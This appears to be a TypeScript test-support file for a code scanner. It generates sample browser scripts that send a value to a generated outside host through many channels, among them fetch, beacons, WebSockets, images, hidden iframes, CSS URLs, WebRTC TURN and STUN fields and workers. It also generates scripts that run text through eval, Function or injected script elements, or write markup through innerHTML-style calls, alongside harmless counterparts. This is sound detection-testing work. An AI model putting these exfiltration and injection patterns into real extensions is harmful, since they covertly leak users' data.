import type { SinkClass } from './attack-model.test-support.ts'
import type { ScriptDraft } from './draft.test-support.ts'
import type { Shape, Sink } from './parts.test-support.ts'

type Js = ScriptDraft
type Code = (s: Js, value: string) => void

/** Harmless things to do with a value. */
const remembers: Code = (s, v) => s.do(`localStorage.setItem("pack.last", ${v})`)
const logs: Code = (s, v) => s.do(`console.debug("pack", ${v})`)
const tellsOwnServer: Code = (s, v) => {
  s.api()
  s.do(`await api.fetchApi("/pack/state", { method: "POST", body: ${v} })`)
}
const shows: Code = (s, v) => {
  const element = s.name('object')
  s.do(
    `const ${element} = document.createElement("pre")`,
    `${element}.textContent = ${v}`,
    `document.body.append(${element})`,
  )
}
const parses: Code = (s, v) => {
  const value = s.name('value')
  s.do(`const ${value} = JSON.parse(${v})`, `console.debug(${value}.length)`)
}
const harmless: Code = (s, v) => s.pick(remembers, logs, tellsOwnServer, shows)(s, v)
const harmlessShow: Code = (s, v) => s.pick(shows, parses, logs)(s, v)

const sink = (
  is: SinkClass,
  takes: Shape,
  id: string,
  code: Code,
  kin: Code,
  more: Partial<Sink<Js>> = {},
): Sink<Js> => ({
  id,
  is,
  takes,
  code,
  kin,
  ...more,
})
const plain = { harmlessWithOwn: true }
const send = (id: string, code: Code, more: Partial<Sink<Js>> = plain) =>
  sink('sends', 'text', id, code, harmless, more)
const run = (id: string, code: Code) => sink('runs', 'text', id, code, harmlessShow)
const mark = (id: string, code: Code) => sink('markup', 'text', id, code, shows, plain)

const sends: Sink<Js>[] = [
  send('fetch, body', (s, v) =>
    s.do(
      `${s.pick('await ', '')}${s.global('fetch')}(${s.address()}, { method: "POST", body: ${v}${s.pick('', ', mode: "no-cors"', ', keepalive: true')} })`,
    ),
  ),
  send('fetch, query', (s, v) =>
    s.do(
      s.pick(
        () => `${s.global('fetch')}(${s.address()} + "?q=" + encodeURIComponent(${v}))`,
        () => `await fetch(\`${s.url()}?d=\${encodeURIComponent(${v})}\`)`,
      )(),
    ),
  ),
  send('fetch, header', (s, v) =>
    s.do(`await ${s.global('fetch')}(${s.address()}, { headers: { "X-Session": ${v} } })`),
  ),
  send('fetch, JSON', (s, v) =>
    s.do(
      `await ${s.global('fetch')}(${s.address()}, { method: "POST", headers: { "content-type": "application/json" }, body: JSON.stringify({ d: ${v} }) })`,
    ),
  ),
  send('beacon', (s, v) => s.do(`navigator.sendBeacon(${s.address()}, ${v})`)),
  send('older request', (s, v) => {
    const request = s.name('object')
    s.do(
      `const ${request} = new XMLHttpRequest()`,
      `${request}.open("POST", ${s.address()})`,
      `${request}.send(${v})`,
    )
  }),
  send('web socket', (s, v) => {
    const [socket, value] = [s.name('object'), s.name('value')]
    s.do(
      `const ${value} = ${v}`,
      `const ${socket} = new WebSocket(${s.text(`wss://${s.host()}/s`)})`,
      s.pick(
        `${socket}.onopen = () => ${socket}.send(${value})`,
        `${socket}.addEventListener("open", () => ${socket}.send(${value}))`,
      ),
    )
  }),
  send('web socket, address', (s, v) =>
    s.do(`new WebSocket(${s.text(`wss://${s.host()}/s`)} + "?k=" + encodeURIComponent(${v}))`),
  ),
  send('picture', (s, v) => {
    const image = s.name('object')
    s.pick(
      () => s.do(`new Image().src = ${s.address()} + "?i=" + encodeURIComponent(${v})`),
      () =>
        s.do(
          `const ${image} = document.createElement("img")`,
          `${image}.src = \`${s.url()}?i=\${encodeURIComponent(${v})}\``,
          `document.body.append(${image})`,
        ),
    )()
  }),
  send('form', (s, v) => {
    const [form, field] = [s.name('object'), s.name('object')]
    s.do(
      `const ${form} = Object.assign(document.createElement("form"), { method: "POST", action: ${s.address()} })`,
      `const ${field} = Object.assign(document.createElement("input"), { name: "d", value: ${v} })`,
      `${form}.append(${field})`,
      `document.body.append(${form})`,
      `${form}.submit()`,
    )
  }),
  send('link', (s, v) => {
    const link = s.name('object')
    s.do(
      `const ${link} = document.createElement("link")`,
      `${link}.rel = "${s.pick('prefetch', 'preload', 'dns-prefetch', 'stylesheet')}"`,
      `${link}.href = ${s.address()} + "?v=" + encodeURIComponent(${v})`,
      `document.head.append(${link})`,
    )
  }),
  send('frame', (s, v) => {
    const frame = s.name('object')
    s.do(
      `const ${frame} = document.createElement("iframe")`,
      `${frame}.hidden = true`,
      `${frame}.src = ${s.address()} + "?f=" + encodeURIComponent(${v})`,
      `document.body.append(${frame})`,
    )
  }),
  send('style', (s, v) =>
    s.do(`document.body.style.backgroundImage = \`url("${s.url()}?c=\${encodeURIComponent(${v})}")\``),
  ),
  send('event stream', (s, v) => s.do(`new EventSource(${s.address()} + "?e=" + encodeURIComponent(${v}))`)),
  send('window', (s, v) =>
    s.do(
      s.pick(
        () => `window.open(${s.address()} + "?w=" + encodeURIComponent(${v}), "_blank")`,
        () => `location.href = ${s.address()} + "?w=" + encodeURIComponent(${v})`,
      )(),
    ),
  ),
  send(
    'WebRTC, user name',
    (s, v) => {
      const peer = s.name('object')
      s.do(
        `const ${peer} = new RTCPeerConnection({ iceServers: [{ urls: "turn:${s.host()}:3478", username: ${v}, credential: "x" }] })`,
        `${peer}.createDataChannel("d")`,
        `await ${peer}.setLocalDescription(await ${peer}.createOffer())`,
      )
    },
    {},
  ),
  send(
    'WebRTC, name',
    (s, v) => {
      const peer = s.name('object')
      s.do(
        `const ${peer} = new RTCPeerConnection({ iceServers: [{ urls: "stun:" + ${v}.slice(0, 60) + ".${s.host()}:3478" }] })`,
        `${peer}.createDataChannel("d")`,
        `${peer}.createOffer().then((offer) => ${peer}.setLocalDescription(offer))`,
      )
    },
    {},
  ),
  send('worker', (s, v) => {
    const worker = s.name('object')
    s.file(
      'web/js/task.js',
      `self.onmessage = (event) => fetch("${s.url()}", { method: "POST", body: event.data })\n`,
    )
    s.do(`const ${worker} = new Worker(new URL("./task.js", import.meta.url))`, `${worker}.postMessage(${v})`)
  }),
  send(
    'worker from a blob',
    (s, v) => {
      const [worker, code] = [s.name('object'), s.name('value')]
      s.do(
        `const ${code} = 'onmessage = (e) => fetch("${s.url()}", { method: "POST", body: e.data })'`,
        `const ${worker} = new Worker(URL.createObjectURL(new Blob([${code}])))`,
        `${worker}.postMessage(${v})`,
      )
    },
    {},
  ),
  send('imported address', (s, v) => s.do(`import(${s.address()} + "?m=" + encodeURIComponent(${v}))`), {}),
  send('page of another host', (s, v) => {
    const frame = s.name('object')
    s.do(
      `const ${frame} = document.createElement("iframe")`,
      `${frame}.src = ${s.address()}`,
      `document.body.append(${frame})`,
      `${frame}.onload = () => ${frame}.contentWindow.postMessage(${v}, "*")`,
    )
  }),
]

const runs: Sink<Js>[] = [
  run('eval', (s, v) =>
    s.do(
      s.pick(
        () => `${s.global('eval')}(${v})`,
        () => `;(0, eval)(${v})`,
      )(),
    ),
  ),
  run('Function', (s, v) =>
    s.do(
      s.pick(
        () => `new ${s.pick('Function', 'window.Function')}(${v})()`,
        () => `Function("app", ${v})(window.app)`,
        () => `(async () => {}).constructor(${v})()`,
      )(),
    ),
  ),
  run('timer with text', (s, v) =>
    s.do(`${s.pick('setTimeout', 'window.setTimeout', 'setInterval')}(${v}, 100)`),
  ),
  run('script element, text', (s, v) => {
    const element = s.name('object')
    s.do(
      `const ${element} = document.createElement("script")`,
      s.pick(
        `${element}.textContent = ${v}`,
        `${element}.text = ${v}`,
        `${element}.append(${v})`,
        `${element}.innerHTML = ${v}`,
      ),
      s.pick(`document.head.appendChild(${element})`, `document.body.append(${element})`),
    )
  }),
  run('script element, blob', (s, v) => {
    const element = s.name('object')
    s.do(
      `const ${element} = document.createElement("script")`,
      `${element}.src = URL.createObjectURL(new Blob([${v}], { type: "text/javascript" }))`,
      `document.head.append(${element})`,
    )
  }),
  run('script element, fetched address', (s, v) => {
    const element = s.name('object')
    s.do(
      `const ${element} = document.createElement("script")`,
      s.pick(`${element}.src = ${v}`, `${element}.setAttribute("src", ${v})`),
      `document.head.append(${element})`,
    )
  }),
  run('import of a fetched address', (s, v) => s.do(`await import(${v})`)),
  run('import of text', (s, v) =>
    s.do(
      s.pick(
        `await import("data:text/javascript," + encodeURIComponent(${v}))`,
        `await import(URL.createObjectURL(new Blob([${v}], { type: "text/javascript" })))`,
      ),
    ),
  ),
  run('worker with text', (s, v) =>
    s.do(`new Worker(URL.createObjectURL(new Blob([${v}], { type: "text/javascript" })))`),
  ),
  run('handler attribute', (s, v) => {
    const element = s.name('object')
    s.do(
      `const ${element} = document.createElement("button")`,
      `${element}.setAttribute("onclick", ${v})`,
      `document.body.append(${element})`,
      `${element}.click()`,
    )
  }),
]

const marks: Sink<Js>[] = [
  mark('innerHTML', (s, v) => {
    const element = s.name('object')
    s.do(
      `const ${element} = document.createElement("div")`,
      s.pick(`${element}.innerHTML = ${v}`, `${element}["innerHTML"] = ${v}`, `${element}.innerHTML += ${v}`),
      `document.body.append(${element})`,
    )
  }),
  mark('outerHTML', (s, v) => {
    const element = s.name('object')
    s.do(
      `const ${element} = document.body.appendChild(document.createElement("div"))`,
      `${element}.outerHTML = ${v}`,
    )
  }),
  mark('insertAdjacentHTML', (s, v) => s.do(`document.body.insertAdjacentHTML("beforeend", ${v})`)),
  mark('document.write', (s, v) => s.do(`document.write(${v})`)),
  mark('srcdoc', (s, v) => {
    const frame = s.name('object')
    s.do(
      `const ${frame} = document.createElement("iframe")`,
      s.pick(`${frame}.srcdoc = ${v}`, `${frame}.setAttribute("srcdoc", ${v})`),
      `document.body.append(${frame})`,
    )
  }),
  mark('fragment', (s, v) =>
    s.do(`document.body.append(document.createRange().createContextualFragment(${v}))`),
  ),
]

export const scriptSinks: readonly Sink<Js>[] = [...sends, ...runs, ...marks]
